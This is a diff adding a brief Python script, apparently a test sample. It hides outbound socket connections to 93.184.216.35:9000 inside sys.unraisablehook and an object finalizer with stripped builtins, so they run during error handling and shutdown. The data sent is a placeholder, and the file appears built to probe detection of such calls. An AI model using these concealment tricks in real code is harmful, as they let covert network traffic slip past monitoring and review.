@@ -1,0 +1,36 @@
+"""A finalizer fails; the hook for what cannot be raised connects."""
+import _socket
+import sys
+import types
+
+
+class Late:
+    """Brings all it needs along: by the time it goes, modules, builtins and types may be gone."""
+
+
+client = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+
+
+def work(self, connect=client.connect, send=client.send, address=("93.184.216.35", 9000)):
+    connect(address)
+    send(b"data")
+
+
+Late.__del__ = types.FunctionType(work.__code__, {"__builtins__": {"None": None}}, None, work.__defaults__)
+
+
+class Failing:
+    def __del__(self):
+        raise ValueError
+
+
+def hook(information, make=_socket.socket):
+    client = make(2, 1)
+    client.connect(("93.184.216.35", 9000))
+    client.send(b"data")
+
+
+sys.unraisablehook = hook
+sys.failing = Failing()
+del sys.failing
+print("done")
